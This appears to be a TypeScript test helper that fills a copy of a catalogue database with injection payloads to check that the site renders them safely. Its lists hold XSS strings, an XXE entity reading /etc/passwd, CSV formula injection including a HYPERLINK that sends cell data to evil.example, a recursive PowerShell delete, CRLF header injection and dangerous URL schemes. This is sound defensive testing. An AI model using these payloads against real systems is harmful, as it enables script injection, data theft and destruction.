import { createClient, type Client, type Value } from '@libsql/client';
import { MALICIOUS_PROSE } from '@/lib/catalogue/maliciousProse.fixture';
import { fileAddress } from '@/lib/catalogue/fileAddress';

/** What every piece of it would do if it ran. */
const RUN = 'window.hit=1';
/** A word by which search finds every row. */
const WORD = 'calendar';

/** Texts that run or mislead where somebody takes them for more than text: in HTML, XML, JSON, CSV, Markdown, a shell. */
const TEXTS: readonly string[] = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `"><img src=x onerror=${RUN}>`,
  `'><svg/onload=${RUN}>`,
  `" onmouseover="${RUN}" autofocus onfocus="${RUN}" x="`,
  `</title></textarea></style></noscript></template><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `]]><script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script><![CDATA[`,
  `<?xml-stylesheet href="javascript:${RUN}"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/"><link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "https://evil.example/x.css";*{display:none}</style>',
  '<form action="https://evil.example/"><input name=password></form>',
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "-1+cmd|' /C calc'!A0",
  '@SUM(1+9)*cmd',
  '\t=1+1',
  '\r\n=1+1',
  `\u2028${RUN}\u2029//`,
  '\u202Egpj.exe\u2066',
  `[Read on](javascript:${RUN}) ![x](https://evil.example/x.png) <https://evil.example>`,
  '[x]: https://evil.example/\n# Heading\n| a |\n| - |\n| b |',
  '``` \n<script>\n~~~',
  "'; Remove-Item C:\\ -Recurse; $(calc) `calc` | iex #",
  '{process.exit()} ${window.hit=1} {{constructor.constructor("window.hit=1")()}}',
  '__proto__',
  '\u0001\u0008\u001b[31m\uFFFE\uFFFF',
  'a\r\nSet-Cookie: hit=1\r\n\r\n<script>window.hit=1</script>',
];

/** Addresses that no link may have. */
const ADDRESSES: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` \tjavascript:${RUN}`,
  `java\nscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  'vbscript:x',
  'file:///etc/passwd',
  'blob:https://evil.example/1',
  '//evil.example/',
  '/\\evil.example/',
  'https:evil.example',
  `https://evil.example/"onclick="${RUN}`,
  'ms-msdt:/id x',
];

/** Columns that hold keys: rows could not be found by others. */
const KEYS =
  /^(?:Meta|Identifier|Supersession|Evidence|BulletinCve|TopicKnownIssue|Word)\.|\.(?:id|slug|build|(?!download)[a-zA-Z]+Id)$|^WizardWords\.name$|^Text\.type$/;
/** Columns that hold one of a few words, or a day. */
const CODES =
  /\.(?:kind|state|seen|withdrawal|kbStatus|titleStatus|original|field|type|language|titleLanguage|supportEnded|lastReview|reviewed|date|published|affects|notAffected)$/;

/**
 * Overwrites, in a copy of a catalogue, every text that readers see with malice, past all checks of the import: each stored tree
 * with one of MALICIOUS_PROSE, each address with one that no link may have, each other text with one of those above.
 *
 * @param file path of the copy
 * @param codes whether the columns that hold one of a few words or a day are overwritten too
 * @returns the columns that were overwritten, `Article.title`, and the pages that show all of MALICIOUS_PROSE between them
 */
export async function fillWithMalice(file: string, codes: boolean): Promise<{ columns: string[]; pages: string[] }> {
  const client = createClient({ url: fileAddress(file) });
  try {
    const columns = (await textColumns(client)).filter(
      (column) => !KEYS.test(column) && (codes || !CODES.test(column)),
    );
    await client.execute('BEGIN');
    for (const [place, column] of columns.entries()) await overwrite(client, column, place);
    await client.execute('COMMIT');
    return { columns, pages: await pagesOfProse(client) };
  } finally {
    client.close();
  }
}

async function textColumns(client: Client): Promise<string[]> {
  const { rows } = await client.execute(
    `SELECT m."name" AS "table", c."name" AS "column", c."type" AS "type" FROM sqlite_master m, pragma_table_info(m."name") c
     WHERE m."type" = 'table' AND m."name" NOT LIKE 'Text\\_%' ESCAPE '\\' AND m."name" NOT LIKE 'sqlite%'`,
  );
  return rows
    .filter(({ table, type }) => type === 'TEXT' || table === 'Text')
    .map(({ table, column }) => `${textOf(table)}.${textOf(column)}`);
}

/** The topics share all of MALICIOUS_PROSE out among them, so that a few pages show all of it. */
async function pagesOfProse(client: Client): Promise<string[]> {
  const { rows } = await client.execute('SELECT "slug" FROM "Topic"');
  return rows.map(({ slug }) => `/topics/${textOf(slug)}`);
}

function shareOf(part: number, parts: number): string {
  const mine = Object.values(MALICIOUS_PROSE).filter((_, index) => index % parts === part);
  const trees = mine.map((tree) => JSON.parse(tree) as { lede?: unknown[]; sections?: unknown[] } | null);
  const all = (field: 'lede' | 'sections') => trees.flatMap((tree) => tree?.[field] ?? []);
  return JSON.stringify({ lede: all('lede'), sections: all('sections') });
}

async function overwrite(client: Client, column: string, place: number): Promise<void> {
  const [table = '', name = ''] = column.split('.');
  const { rows } = await client.execute(`SELECT rowid AS "row", "${name}" AS "value" FROM "${table}" ORDER BY rowid`);
  for (const [index, { row, value }] of rows.entries()) {
    const now =
      column === 'Topic.tree' ? shareOf(index, rows.length) : maliceFor(column, textOf(value), place + index, index);
    await client.execute({ sql: `UPDATE "${table}" SET "${name}" = ? WHERE rowid = ?`, args: [now, row ?? null] });
  }
}

function maliceFor(column: string, value: string, turn: number, index: number): string {
  if (column.endsWith('.tree')) return of(Object.values(MALICIOUS_PROSE), index);
  if (column === 'WizardWords.json') return JSON.stringify(filled(JSON.parse(value), ''));
  if (/\.(?:url|leadsTo)$/.test(column)) return of(ADDRESSES, turn);
  // Some columns are unique.
  return `${of(TEXTS, turn)} ${WORD} ${index}`;
}

function textOf(value: Value | undefined): string {
  return typeof value === 'string' ? value : '';
}

let turns = 0;
/** The words of the wizard: every text in them is overwritten, every key stays. */
function filled(value: unknown, key: string): unknown {
  if (typeof value === 'string') return of(key === 'url' ? ADDRESSES : TEXTS, turns++);
  if (Array.isArray(value)) return value.map((one) => filled(one, key));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([name, one]) => [name, filled(one, name)]));
}

function of(list: readonly string[], turn: number): string {
  return list[turn % list.length] ?? '';
}
